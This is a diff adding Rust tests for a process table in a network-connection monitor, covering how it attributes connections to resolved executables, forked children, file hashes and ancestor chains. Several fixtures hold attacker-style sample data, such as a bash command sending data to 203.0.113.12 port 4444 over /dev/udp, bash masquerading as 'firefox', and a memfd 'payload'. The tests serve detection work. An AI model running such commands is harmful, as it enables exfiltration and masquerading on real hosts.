@@ -10,8 +10,8 @@ use std::process::{Child, Command, Stdio};
 use std::sync::Arc;
 
 use monitor_common::{
-    AF_INET, AF_INET6, ARGS_LEN, COMM_LEN, ConnectEvent, EXE_LEN, ExecEvent, ExitEvent,
-    IPPROTO_TCP, IPPROTO_UDP, backend, hook, kind,
+    AF_INET, AF_INET6, ARGS_LEN, COMM_LEN, ConnectEvent, EXE_LEN, EXE_PATH_LEN, ExecEvent,
+    ExitEvent, ForkEvent, IPPROTO_TCP, IPPROTO_UDP, backend, exe_flag, hook, kind,
 };
 
 use super::container::cgroup2_mount;
@@ -140,8 +140,14 @@ fn exec_event(pid: u32, ppid: u32, start_time_ns: u64, filename: &[u8], argv: &[
         cgroup_id: 0,
         args_len: 0,
         args_truncated: 0,
+        exe_flags: 0,
+        exe_path_len: 0,
+        exe_dev: 0,
+        _pad0: 0,
+        exe_ino: 0,
         comm: comm(filename.rsplit(|&b| b == b'/').next().unwrap()),
         filename: [0; EXE_LEN],
+        exe_path: [0; EXE_PATH_LEN],
         args: [0; ARGS_LEN],
     };
     let f = filename.len().min(EXE_LEN);
@@ -152,6 +158,35 @@ fn exec_event(pid: u32, ppid: u32, start_time_ns: u64, filename: &[u8], argv: &[
     ev.args_len = a as u32;
     ev.args_truncated = u32::from(argv.len() > ARGS_LEN);
     ev
+}
+
+/// An exec event as the kernel writes it when it resolved `mm->exe_file` to `exe`.
+fn resolved_exec(
+    pid: u32,
+    ppid: u32,
+    start_time_ns: u64,
+    filename: &[u8],
+    exe: &[u8],
+    flags: u32,
+    argv: &[u8],
+) -> ExecEvent {
+    let mut ev = exec_event(pid, ppid, start_time_ns, filename, argv);
+    ev.exe_path[EXE_PATH_LEN - exe.len()..].copy_from_slice(exe);
+    ev.exe_path_len = exe.len() as u32;
+    ev.exe_flags = exe_flag::RESOLVED | flags;
+    ev
+}
+
+fn fork_event(child: u32, start_time_ns: u64, source: u32, source_start_ns: u64) -> ForkEvent {
+    ForkEvent {
+        kind: kind::FORK,
+        tgid: child,
+        ktime_ns: 1_500,
+        source_tgid: source,
+        ppid: source,
+        start_time_ns,
+        source_start_time_ns: source_start_ns,
+    }
 }
 
 fn exit_event(pid: u32, start_time_ns: u64) -> ExitEvent {
@@ -802,4 +837,302 @@ fn exec_through_a_symlink_reports_the_file_the_kernel_ran() {
     );
     kid.stop();
     let _ = std::fs::remove_dir_all(&dir);
+}
+
+/// `ln -s /usr/bin/bash /tmp/x/firefox; /tmp/x/firefox -c ...`, gone before user space looks:
+/// the file the kernel resolved names the process, never the path execve was given.
+#[test]
+fn the_kernels_resolved_executable_beats_the_exec_path() {
+    let mut t = ProcessTable::new(ProcessTableConfig::default());
+    let pid = impossible_pid() + 300;
+    let start = 7_000_000_000;
+    t.on_exec(&resolved_exec(
+        pid,
+        1,
+        start,
+        b"/tmp/x/firefox",
+        b"/usr/bin/bash",
+        0,
+        b"/tmp/x/firefox\0-c\0echo x\0",
+    ));
+    let rec = enrich(&mut t, &connect_v4(pid, start, [203, 0, 113, 9], 443));
+    assert_eq!(rec.process.executable.as_deref(), Some("/usr/bin/bash"));
+    assert_eq!(rec.process.name.as_deref(), Some("bash"));
+    assert_eq!(rec.process.args[0], "/tmp/x/firefox", "argv stays as given");
+
+    // busybox re-running itself through /proc/self/exe: the file, and its name.
+    t.on_exec(&resolved_exec(
+        pid + 1,
+        1,
+        start,
+        b"/proc/self/exe",
+        b"/usr/bin/busybox",
+        0,
+        b"wget\0-q\0",
+    ));
+    let rec = enrich(&mut t, &connect_v4(pid + 1, start, [203, 0, 113, 9], 443));
+    assert_eq!(rec.process.executable.as_deref(), Some("/usr/bin/busybox"));
+    assert_eq!(rec.process.name.as_deref(), Some("busybox"));
+    assert_eq!(rec.process.args[0], "wget");
+
+    // Deleted while running, and a memfd: as /proc/PID/exe shows them.
+    t.on_exec(&resolved_exec(
+        pid + 2,
+        1,
+        start,
+        b"/tmp/d/curl",
+        b"/tmp/d/curl",
+        exe_flag::DELETED,
+        b"curl\0",
+    ));
+    let rec = enrich(&mut t, &connect_v4(pid + 2, start, [203, 0, 113, 9], 443));
+    assert_eq!(
+        rec.process.executable.as_deref(),
+        Some("/tmp/d/curl (deleted)")
+    );
+    assert_eq!(rec.process.name.as_deref(), Some("curl"));
+    t.on_exec(&resolved_exec(
+        pid + 3,
+        1,
+        start,
+        b"/dev/fd/3",
+        b"/memfd:payload",
+        exe_flag::PSEUDO,
+        b"x\0",
+    ));
+    let rec = enrich(&mut t, &connect_v4(pid + 3, start, [203, 0, 113, 9], 443));
+    assert_eq!(
+        rec.process.executable.as_deref(),
+        Some("/memfd:payload (deleted)")
+    );
+    assert_eq!(rec.process.name.as_deref(), Some("memfd:payload"));
+}
+
+/// A path too deep for the kernel's walk: what it got, marked, and the record partial;
+/// never the exec path instead.
+#[test]
+fn a_truncated_executable_path_is_partial_and_never_replaced() {
+    let mut t = ProcessTable::new(ProcessTableConfig::default());
+    let pid = impossible_pid() + 310;
+    let start = 7_000_000_000;
+    t.on_exec(&resolved_exec(
+        pid,
+        1,
+        start,
+        b"/usr/bin/firefox",
+        b"/d30/d31/bin/firefox",
+        exe_flag::TRUNCATED,
+        b"firefox\0",
+    ));
+    let rec = enrich(&mut t, &connect_v4(pid, start, [203, 0, 113, 9], 443));
+    assert_eq!(
+        rec.process.executable.as_deref(),
+        Some(".../d30/d31/bin/firefox")
+    );
+    assert!(rec.partial);
+}
+
+/// A subshell (fork without exec) has its parent's identity from its first instruction;
+/// a connect before an exec is the old image's, the one after it the new image's; the
+/// forking process may be gone by the time user space reads the events.
+#[test]
+fn forked_children_inherit_and_events_apply_in_kernel_order() {
+    let mut t = ProcessTable::new(ProcessTableConfig::default());
+    let shell = impossible_pid() + 320;
+    let child = shell + 1;
+    let (shell_start, child_start) = (8_000_000_000, 8_100_000_000);
+    let script = b"bash\0-c\0(echo x > /dev/udp/203.0.113.12/4444; sleep 1)\0";
+    t.on_exec(&resolved_exec(
+        shell,
+        1,
+        shell_start,
+        b"/bin/bash",
+        b"/usr/bin/bash",
+        0,
+        script,
+    ));
+    t.on_fork(&fork_event(child, child_start, shell, shell_start));
+    t.on_exit(&exit_event(shell, shell_start));
+    // The order the ring buffer gives: the child's send, its exec of sleep, a later send.
+    let before = enrich(
+        &mut t,
+        &connect_v4(child, child_start, [203, 0, 113, 12], 4444),
+    );
+    t.on_exec(&resolved_exec(
+        child,
+        shell,
+        child_start,
+        b"/usr/bin/sleep",
+        b"/usr/bin/sleep",
+        0,
+        b"sleep\x001\0",
+    ));
+    let after = enrich(
+        &mut t,
+        &connect_v4(child, child_start, [203, 0, 113, 12], 4445),
+    );
+    assert_eq!(before.process.executable.as_deref(), Some("/usr/bin/bash"));
+    assert_eq!(before.process.name.as_deref(), Some("bash"));
+    assert_eq!(before.process.args.len(), 3);
+    assert_eq!(before.process.parent.pid, Some(shell));
+    assert_eq!(
+        before.process.parent.executable.as_deref(),
+        Some("/usr/bin/bash")
+    );
+    assert!(!before.partial, "{before:?}");
+    assert_eq!(after.process.executable.as_deref(), Some("/usr/bin/sleep"));
+    assert_eq!(after.process.args, ["sleep", "1"]);
+    assert_eq!(t.stats().forks_inherited, 1);
+
+    // A fork whose forking process is unknown and gone: nothing invented.
+    t.on_fork(&fork_event(child + 10, child_start, child + 9, shell_start));
+    assert_eq!(t.stats().forks_unknown_source, 1);
+    assert!(!t.contains(child + 10));
+}
+
+/// A port sweep from subshells: every record has the shell's executable.
+#[test]
+fn a_subshell_port_sweep_keeps_the_shells_identity() {
+    let mut t = ProcessTable::new(ProcessTableConfig::default());
+    let shell = impossible_pid() + 400;
+    let start = 9_000_000_000;
+    t.on_exec(&resolved_exec(
+        shell,
+        1,
+        start,
+        b"/bin/bash",
+        b"/usr/bin/bash",
+        0,
+        b"bash\0sweep.sh\0",
+    ));
+    for i in 0..50u32 {
+        let kid = shell + 1 + i;
+        let kid_start = start + 1_000_000 * u64::from(i + 1);
+        t.on_fork(&fork_event(kid, kid_start, shell, start));
+        let rec = enrich(
+            &mut t,
+            &connect_v4(kid, kid_start, [203, 0, 113, 20], 1000 + i as u16),
+        );
+        t.on_exit(&exit_event(kid, kid_start));
+        assert_eq!(rec.process.executable.as_deref(), Some("/usr/bin/bash"));
+        assert!(!rec.partial);
+    }
+}
+
+/// The executable's SHA-256 arrives from the worker after the first records and is on every
+/// record built after it; children forked later inherit it.
+#[test]
+fn executable_hashes_arrive_off_the_event_path() {
+    use std::os::unix::fs::MetadataExt;
+    let dir = std::env::temp_dir().join(format!("table-hash-{}", unique()));
+    std::fs::create_dir_all(&dir).unwrap();
+    let file = dir.join("prog");
+    std::fs::write(&file, b"abc").unwrap();
+    let meta = std::fs::metadata(&file).unwrap();
+    let kernel_dev = (libc::major(meta.dev()) << 20) | libc::minor(meta.dev());
+
+    let mut t = ProcessTable::new(ProcessTableConfig::default());
+    let pid = impossible_pid() + 500;
+    let start = 9_500_000_000;
+    let mut ev = resolved_exec(
+        pid,
+        1,
+        start,
+        b"/tmp/whatever",
+        file.as_os_str().as_bytes(),
+        0,
+        b"prog\0",
+    );
+    ev.exe_dev = kernel_dev;
+    ev.exe_ino = meta.ino();
+    t.on_exec(&ev);
+    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
+    let rec = loop {
+        t.apply_hashes();
+        let rec = enrich(&mut t, &connect_v4(pid, start, [203, 0, 113, 9], 443));
+        if rec.process.hashes.is_some() || std::time::Instant::now() > deadline {
+            break rec;
+        }
+        std::thread::sleep(std::time::Duration::from_millis(5));
+    };
+    let sha = "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad";
+    assert_eq!(rec.process.sha256(), Some(sha));
+    assert_eq!(
+        rec.process.hashes.as_deref(),
+        Some(format!("SHA256={sha}").as_str())
+    );
+    t.on_fork(&fork_event(pid + 1, start + 1, pid, start));
+    let child = enrich(
+        &mut t,
+        &connect_v4(pid + 1, start + 1, [203, 0, 113, 9], 443),
+    );
+    assert_eq!(child.process.sha256(), Some(sha));
+    assert!(t.stats().hashes_computed >= 1);
+    std::fs::remove_dir_all(&dir).unwrap();
+}
+
+/// `process.ancestors`: the parent's executable first, up to where the chain is known.
+#[test]
+fn ancestors_list_the_executables_up_the_chain() {
+    let mut t = ProcessTable::new(ProcessTableConfig::default());
+    let a = impossible_pid() + 600;
+    let (b, c) = (a + 1, a + 2);
+    let start = 9_600_000_000;
+    // a's parent is a pid no process has: the chain ends at a.
+    t.on_exec(&resolved_exec(
+        a,
+        a + 50,
+        start,
+        b"/x",
+        b"/usr/sbin/sshd",
+        0,
+        b"sshd\0",
+    ));
+    t.on_exec(&resolved_exec(
+        b,
+        a,
+        start + 10_000_000,
+        b"/x",
+        b"/usr/bin/bash",
+        0,
+        b"-bash\0",
+    ));
+    t.on_exec(&resolved_exec(
+        c,
+        b,
+        start + 20_000_000,
+        b"/x",
+        b"/usr/bin/curl",
+        0,
+        b"curl\0",
+    ));
+    let rec = enrich(
+        &mut t,
+        &connect_v4(c, start + 20_000_000, [203, 0, 113, 9], 443),
+    );
+    assert_eq!(rec.process.ancestors, ["/usr/bin/bash", "/usr/sbin/sshd"]);
+    t.on_fork(&fork_event(
+        c + 1,
+        start + 30_000_000,
+        c,
+        start + 20_000_000,
+    ));
+    let rec = enrich(
+        &mut t,
+        &connect_v4(c + 1, start + 30_000_000, [203, 0, 113, 9], 443),
+    );
+    assert_eq!(
+        rec.process.ancestors,
+        ["/usr/bin/curl", "/usr/bin/bash", "/usr/sbin/sshd"]
+    );
+    // The real chain of this test process reaches PID 1 through /proc.
+    let me = std::process::id();
+    let mut t = ProcessTable::new(ProcessTableConfig::default());
+    t.scan_proc().unwrap();
+    let rec = enrich(&mut t, &connect_v4(me, start_ns(me), [203, 0, 113, 9], 443));
+    assert!(
+        !rec.process.ancestors.is_empty() && rec.process.ancestors.len() <= 16,
+        "{:?}",
+        rec.process.ancestors
+    );
 }
